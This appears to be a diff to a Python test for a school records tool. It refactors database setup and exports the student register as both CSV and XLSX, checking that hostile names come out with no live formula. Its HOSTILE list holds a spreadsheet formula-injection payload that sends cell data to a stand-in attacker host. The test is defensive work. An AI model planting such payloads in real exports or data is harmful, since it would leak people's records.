@@ -22,6 +22,7 @@ from sendesk.reports.access_list import write_access_list
 from sendesk.reports.tabular import csv_cell
 from sendesk.rules.upn import make
 from sendesk.services.access.records import ExamsRow
+from tests.cli_run import init_hill_school
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -67,11 +68,8 @@ def test_register_exports_of_hostile_names_hold_no_live_formula(
     monkeypatch: pytest.MonkeyPatch,
     capsys: pytest.CaptureFixture[str],
 ) -> None:
-    monkeypatch.setenv("SENDESK_DB_KEY", raw_key)
-    monkeypatch.setenv("SENDESK_NEW_PASSWORD", "hill-school-pw")
-    monkeypatch.setenv("SENDESK_PASSWORD", "hill-school-pw")
     db = tmp_path / "school.db"
-    assert main(["init", "--db", str(db), "--school", "Hill School"]) == 0
+    init_hill_school(monkeypatch, raw_key, db)
     upns = [make(801, 2000, 24, serial) for serial in range(1, len(HOSTILE) + 1)]
     source = tmp_path / "export.csv"
     with source.open("w", encoding="utf-8", newline="") as fh:
@@ -92,36 +90,11 @@ def test_register_exports_of_hostile_names_hold_no_live_formula(
         opened.dispose()
     assert stored == sorted(HOSTILE)
 
-    assert (
-        main(
-            [
-                "register",
-                "--db",
-                str(db),
-                "--all",
-                "--format",
-                "csv",
-                "--out",
-                str(tmp_path / "r.csv"),
-            ]
+    for form in ("csv", "xlsx"):
+        out_file = str(tmp_path / f"r.{form}")
+        assert (
+            main(["register", "--db", str(db), "--all", "--format", form, "--out", out_file]) == 0
         )
-        == 0
-    )
-    assert (
-        main(
-            [
-                "register",
-                "--db",
-                str(db),
-                "--all",
-                "--format",
-                "xlsx",
-                "--out",
-                str(tmp_path / "r.xlsx"),
-            ]
-        )
-        == 0
-    )
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
         cells = [cell for row in csv.reader(fh) for cell in row]
     for name in HOSTILE:
